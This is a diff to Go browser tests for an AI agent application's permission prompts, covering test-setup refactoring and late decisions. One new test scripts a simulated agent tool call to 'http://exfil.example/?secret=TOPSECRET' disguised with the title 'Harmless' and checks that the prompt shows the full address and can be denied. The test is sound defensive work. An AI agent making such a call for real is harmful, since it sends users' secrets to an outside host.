@@ -11,7 +11,10 @@ import (
 
 	"github.com/artelhq/artel"
 	"github.com/artelhq/artel/agent"
+	"github.com/artelhq/artel/agent/tool"
+	"github.com/artelhq/artel/app/apptest"
 	"github.com/artelhq/artel/internal/phrase"
+	"github.com/artelhq/artel/run"
 )
 
 // asking is a model that writes a note three times over, and changes it.
@@ -34,9 +37,7 @@ That is all.
 func TestQuestions(t *testing.T) {
 	t.Parallel()
 	o := script(t, asking)
-	s := newSiteOf(t, setup{demo: o, ask: agent.Permissions{"create_artifact": agent.Ask, "update_artifact": agent.Ask, "delete_artifact": agent.Ask}})
-	b := openTab(t, 1280, 800)
-	b.Do(chromedp.Navigate(s.URL), see("#composer"))
+	s, b := openSite(t, setup{demo: o, ask: agent.Permissions{"create_artifact": agent.Ask, "update_artifact": agent.Ask, "delete_artifact": agent.Ask}}, 1280, 800)
 	b.send("go")
 	b.Do(see(".question.open"))
 	b.picture("question")
@@ -67,11 +68,11 @@ func TestQuestions(t *testing.T) {
 	}
 
 	id := s.all(t)[0].ID
-	list, err := s.app.Permissions.List(t.Context(), id)
+	list, err := s.app.Permissions.List(apptest.Context(t), id)
 	if err != nil || len(list) != 3 {
 		t.Fatalf("there are %d questions, %v", len(list), err)
 	}
-	if _, err := s.app.Permissions.Decide(t.Context(), list[2].Run, list[2].ID, artel.Always, ""); err != nil {
+	if _, err := s.app.Permissions.Decide(apptest.Context(t), list[2].Run, list[2].ID, artel.Always, ""); err != nil {
 		t.Fatal(err)
 	}
 	b.rest()
@@ -85,6 +86,28 @@ func TestQuestions(t *testing.T) {
 	a := s.askFragment(t, "POST", "/r/"+string(list[2].Run)+"/permissions/"+string(list[2].ID), "/c/"+string(id), map[string][]string{"decision": {"deny"}})
 	if a.StatusCode != 409 || !strings.Contains(a.body, "already been answered") {
 		t.Errorf("a late answer: status %d, %s", a.StatusCode, a.body)
+	}
+}
+
+// The question about an address shows the address whole, and not the title that
+// the model chose for it.
+func TestQuestionsShowAddresses(t *testing.T) {
+	t.Parallel()
+	_, b := openSite(t, setup{demo: script(t, "-- turn 1 --\n@call put_artifact {\"url\": \"http://exfil.example/?secret=TOPSECRET\", \"title\": \"Harmless\"}\n-- turn 2 --\nDone.\n")}, 1280, 800)
+	b.send("go")
+	b.Do(see(".question.open"))
+	b.picture("question-address")
+	b.Says(".question.open", "wants to fetch exfil.example", "can carry what the agent has read", "http://exfil.example/?secret=TOPSECRET", "Allow", "Deny")
+	b.Do(click(`.question.open button[value="deny"]`))
+	b.rest()
+	for _, l := range phrase.Locales() {
+		for _, effect := range tool.Effects() {
+			for _, key := range []string{"page.asks_effect_" + effect, "page.effect_" + effect} {
+				if text := l.Say(phrase.Key(key), nil); text == "" || text == key {
+					t.Errorf("%s says nothing of %s", l, key)
+				}
+			}
+		}
 	}
 }
 
@@ -133,7 +156,7 @@ func TestQuestionWithoutScript(t *testing.T) {
 	a := s.ask(t, "POST", "/c", contentType, fields)
 	page := a.Header.Get("Location")
 	id := s.all(t)[0].ID
-	for e, err := range s.app.Events.Follow(t.Context(), id, 0, 0) {
+	for e, err := range s.app.Events.Follow(apptest.Context(t), id, 0, 0) {
 		if err != nil || e.Type == artel.EventPermissionRequested {
 			break
 		}
@@ -150,5 +173,47 @@ func TestQuestionWithoutScript(t *testing.T) {
 	waitFinal(t, s, id)
 	if body := s.ask(t, "GET", page, "", nil).body; !strings.Contains(body, "Allowed") || !strings.Contains(body, "That is all.") {
 		t.Errorf("the page does not tell what came of it:\n%s", body)
+	}
+}
+
+// A page that is behind shows what was decided, also if the next run has begun
+// meanwhile.
+func TestDecisionsComeLate(t *testing.T) {
+	t.Parallel()
+	s := newSiteOf(t, setup{demo: script(t, asking), ask: agent.Permissions{"create_artifact": agent.Ask}})
+	contentType, fields := form(t, map[string]string{"text": "go"}, nil)
+	s.ask(t, "POST", "/c", contentType, fields)
+	ctx, id := apptest.Context(t), s.all(t)[0].ID
+	var asked artel.PermissionID
+	for e, err := range s.app.Events.Follow(ctx, id, 0, 0) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		if e.Type != artel.EventPermissionRequested {
+			continue
+		}
+		list, err := s.app.Permissions.List(ctx, id)
+		if err != nil || len(list) != 1 {
+			t.Fatalf("there are %d questions, %v", len(list), err)
+		}
+		asked = list[0].ID
+		if _, err := s.app.Permissions.Decide(ctx, e.Run, asked, artel.Deny, ""); err != nil {
+			t.Fatal(err)
+		}
+		break
+	}
+	waitFinal(t, s, id)
+	if _, err := s.app.Runs.Send(ctx, id, run.Input{Text: "And then?"}); err != nil {
+		t.Fatal(err)
+	}
+	waitFinal(t, s, id)
+	last, err := s.app.Events.Last(ctx, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := strings.Join(s.fragments(t, id, 0, last), "\n")
+	shown := all[max(0, strings.LastIndex(all, `<section id="q-`+string(asked))):]
+	if opening, _, _ := strings.Cut(shown, ">"); !strings.HasPrefix(shown, "<section") || strings.Contains(opening, "open") || !strings.Contains(shown, "Denied") {
+		t.Errorf("the question is shown as %.300q", shown)
 	}
 }
